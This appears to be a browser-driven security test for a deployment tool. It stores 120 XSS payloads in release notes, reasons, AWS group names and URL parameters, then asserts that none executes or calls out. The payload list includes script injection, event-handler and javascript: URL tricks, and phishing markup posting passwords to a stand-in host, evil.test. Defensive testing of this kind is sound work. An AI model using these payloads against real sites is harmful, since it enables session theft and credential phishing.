// 120 pieces of markup and script in every field that is stored or shown back: none runs, none even tries (no CSP report).
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { APP, browser, demo, signIn, visitor } from './lib.mjs';
import { furnish, pages } from './pages.mjs';

// What would run says so in three ways: a global, a dialog, a request.
const act = (n) => `window.ran=${n};fetch('/ran/${n}');alert(${n})`;
const shapes = [
  (n) => `<script>${act(n)}</script>`,
  (n) => `"><script>${act(n)}</script>`,
  (n) => `'><script>${act(n)}</script>`,
  (n) => `</title><script>${act(n)}</script>`,
  (n) => `</textarea><script>${act(n)}</script>`,
  (n) => `</pre></code></details><script>${act(n)}</script>`,
  (n) => `--><script>${act(n)}</script><!--`,
  (n) => `<img src=x onerror="${act(n)}">`,
  (n) => `"><img src=/static/none onerror=${act(n).replaceAll(';', '&#59;')}>`,
  (n) => `<svg onload="${act(n)}">`,
  (n) => `<svg><script>${act(n)}</script></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${act(n)}</script></svg>#x"/></svg>`,
  (n) => `" onfocus="${act(n)}" autofocus x="`,
  (n) => `' onmouseover='${act(n)}' x='`,
  (n) => `" autofocus onfocus=${act(n)} tabindex=0 "`,
  (n) => `<details open ontoggle="${act(n)}"><summary>x</summary></details>`,
  (n) => `<iframe srcdoc="<script>parent.ran=${n}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.ran=${n}"></iframe>`,
  (n) => `<object data="javascript:${act(n)}"></object>`,
  (n) => `<base href="https://evil.test/">${n}`,
  (n) => `<form action="https://evil.test/${n}"><input name="password"><button>Sign in</button></form>`,
  (n) => `<meta http-equiv="refresh" content="0;url=https://evil.test/${n}">`,
  (n) => `<link rel="stylesheet" href="https://evil.test/${n}.css">`,
  (n) => `<style>@import 'https://evil.test/${n}.css';</style>`,
  (n) => `<a href="javascript:${act(n)}">click ${n}</a>`,
  (n) => `javascript:${act(n)}//`,
  (n) => `data:text/html,<script>${act(n)}</script>`,
  (n) => `<div hx-get="/ran/${n}" hx-trigger="load">x</div>`,
  (n) => `<div hx-on:load="${act(n)}" hx-trigger="load">x</div>`,
  (n) => `<button id="pause" hx-post="/logout" hx-trigger="load">${n}</button>`,
  (n) => `{{ ${n} }}{% raise %}\${${n}}<%= ${n} %>#{${n}}`,
  (n) => `&lt;script&gt;${act(n)}&lt;/script&gt;`,
  (n) => `%3Cscript%3E${act(n)}%3C/script%3E`,
  (n) => `\\u003cscript\\u003e${act(n)}\\u003c/script\\u003e`,
  (n) => `<scr<script>ipt>${act(n)}</scr</script>ipt>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${act(n)}">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${act(n)}>">`,
  (n) => `<template><script>${act(n)}</script></template><x-y>${n}`,
  (n) => `${'<b>'.repeat(40)}${n}`,
  (n) => `<video><source onerror="${act(n)}"></video>`,
];
/** One of each shape, for what is only shown back. */
const SHAPES = shapes.map((shape, n) => shape(n));
const PAYLOADS = Array.from({ length: 120 }, (_, n) => shapes[n % shapes.length](n));

let world, chrome;
before(async () => { world = await demo(); chrome = await browser(); });
after(async () => { await chrome?.close(); await world?.stop(); });

/** The API with a person's session, as a page would call it. */
async function session(name) {
  const body = new URLSearchParams({ username: name, password: world.people[name] });
  const r = await fetch(world.url + '/login', { method: 'POST', body, redirect: 'manual', headers: { origin: world.url, 'user-agent': PAYLOADS[0] } });
  const cookie = r.headers.get('set-cookie').split(';')[0];
  return (method, path, json) => world.api(method, path, json, { cookie, origin: world.url });
}

/** Calls the simulated AWS as somebody with the console would: groups, hooks and schedules with names of their own. */
async function aws(parameters) {
  const r = await fetch(world.aws_endpoint, { method: 'POST', body: new URLSearchParams({ Version: '2011-01-01', ...parameters }), headers: {
    authorization: 'AWS4-HMAC-SHA256 Credential=AKIADEMO/20260101/ap-south-1/autoscaling/aws4_request, SignedHeaders=host, Signature=0', 'x-amz-date': '20260101T000000Z' } });
  return { status: r.status, text: await r.text() };
}

test('120 payloads in every stored field, all pages opened: none runs', async (t) => {
  const known = await furnish(world);
  const [ada, pia] = [await session('ada'), await session('pia')];
  const env = `/api/v1/apps/${APP}/environments`;
  await world.api('POST', `/api/v1/changes/${known.waiting}/cancel`, { mode: 'stop', reason: PAYLOADS[1] });

  // Release notes and commits, reasons, rejections: each payload in each.
  const numbers = [];
  for (const [n, text] of PAYLOADS.entries()) {
    const { digest } = await world.sim('POST', '/_sim/images', { repository: APP, tag: `p${n}`, behaviour: 'ok' });
    assert.ok(digest, 'an image');
    const made = await world.api('POST', `/api/v1/apps/${APP}/releases`, { tag: `p${n}`, notes: text });
    assert.equal(made.status, 201, JSON.stringify(made.body));
    const asked = await world.api('POST', `${env}/production/changes`, { kind: 'deploy', release: made.body.number, reason: text });
    assert.equal(asked.status, 202, JSON.stringify(asked.body));
    numbers.push(asked.body.number);
    const said = await pia('POST', `/api/v1/changes/${asked.body.number}/reject`, { reason: text });
    assert.ok(said.status < 300, JSON.stringify(said.body));
    // Where a name is asked for, it is refused, and the refusal is in the trail with what was asked.
    if (n % 10 === 0) {
      assert.equal((await ada('POST', '/api/v1/apps', { name: text, repository: APP })).status, 422);
      assert.ok((await world.api('POST', `/api/v1/apps/${APP}/releases`, { tag: text })).status >= 400);
      assert.ok((await world.api('POST', `/api/v1/apps/${encodeURIComponent(text)}/releases`, { tag: 'v1' })).status >= 400);
    }
  }
  // An approval with a comment, then a cancellation and a forced end with reasons.
  const last = (await world.api('POST', `${env}/production/changes`, { kind: 'replace', reason: PAYLOADS[7] })).body;
  await pia('POST', `/api/v1/changes/${last.number}/approve`, { plan_hash: last.plan_hash, comment: PAYLOADS[9] });
  await world.api('POST', `/api/v1/changes/${last.number}/cancel`, { mode: 'stop', reason: PAYLOADS[12] });
  // What AWS itself says: names of groups, hooks and scheduled actions.
  const { groups } = await world.sim('GET', '/_sim/world');
  const staging = groups.find((g) => /staging/.test(g.name)).name;
  let foreign = 0;
  for (const [n, payload] of PAYLOADS.entries()) {
    // AWS takes no space in a name; HTML takes a slash for one.
    const text = payload.replaceAll(' ', '/');
    const group = await aws({ Action: 'CreateAutoScalingGroup', AutoScalingGroupName: text.slice(0, 255), MinSize: '0', MaxSize: '0', DesiredCapacity: '0',
      'AvailabilityZones.member.1': 'ap-south-1a', 'LaunchTemplate.LaunchTemplateId': groups[0].launch_template?.id ?? groups[0].template?.id ?? '', 'LaunchTemplate.Version': '1' });
    const action = n < 20 ? await aws({ Action: 'PutScheduledUpdateGroupAction', AutoScalingGroupName: staging, ScheduledActionName: text.slice(0, 255), MinSize: '2', StartTime: new Date(Date.now() + 86_400_000 * 30).toISOString() }) : group;
    foreign += (group.status === 200) + (action.status === 200);
  }
  t.diagnostic(`${foreign} of the payloads stand in AWS`);
  // AWS allows no colon in the name of a group either, so not every one can stand there.
  assert.ok(foreign > 60, `AWS took ${foreign} of the names`);

  const hostile = [];
  const look = async (page, address) => {
    await page.goto(world.url + address);
    assert.equal(await page.evaluate(() => window.ran), undefined, address);
  };
  const watch = ({ context }) => {
    context.on('dialog', (d) => { hostile.push(`dialog ${d.message()}`); d.dismiss(); });
    context.on('request', (r) => { if (!r.url().startsWith(world.url) || r.url().includes('/ran/')) hostile.push(r.url()); });
  };
  const ends = numbers.at(-1);
  const all = pages({ ...known, waiting: ends });
  for (const person of new Set(all.map(([, , p]) => p))) {
    const guest = await visitor(chrome, { userAgent: PAYLOADS[10] });
    watch(guest);
    const page = await guest.context.newPage();
    if (person) await signIn(page, world, person);
    for (const [, address] of all.filter(([, , p]) => p === person)) await look(page, address);
    if (person === 'vera') {
      for (const number of numbers.slice(0, SHAPES.length)) await look(page, `/deployments/${number}`);
      for (let below = ''; below !== null;) {
        await look(page, `/audit${below}`);
        const older = page.getByRole('link', { name: 'Older entries' });
        below = await older.count() ? new URL(await older.getAttribute('href'), world.url + '/audit').search : null;
      }
    }
    if (person === 'ada') {
      await look(page, `/apps/${APP}/adopt`);
      await page.getByRole('button', { name: 'Look there' }).click();
      await page.getByRole('heading', { name: '2. Which group' }).waitFor();
      const names = (await page.getByRole('radiogroup').innerText()).split('\n').filter((line) => line.includes('<svg/onload'));
      assert.ok(names.length > 0, 'the hostile names are really on the page');
      assert.equal(await page.evaluate(() => window.ran), undefined, 'the look at AWS');
      // What is only shown back: filters, and the fields of a refused form.
      for (const text of SHAPES) await look(page, `/audit?actor=${encodeURIComponent(text)}&action=${encodeURIComponent(text)}&target=${encodeURIComponent(text)}&change=${encodeURIComponent(text)}`);
    }
    if (person === 'dan') {
      await page.goto(`${world.url}/deployments/${ends}`);
      assert.ok((await page.locator('main').innerText()).includes(PAYLOADS[119].slice(0, 30)), 'the payload is really on the page');
      for (const text of SHAPES) await look(page, `/apps/${APP}/staging/deploy?image=${encodeURIComponent(text)}&tag=${encodeURIComponent(text)}&reason=${encodeURIComponent(text)}`);
    }
    if (person === null) for (const text of SHAPES) await look(page, `/login?next=${encodeURIComponent(text)}`);
    assert.deepEqual([guest.seen.violations, guest.seen.errors], [[], []], `${person ?? 'nobody'}`);
    await guest.context.close();
  }
  assert.deepEqual(hostile, []);
});
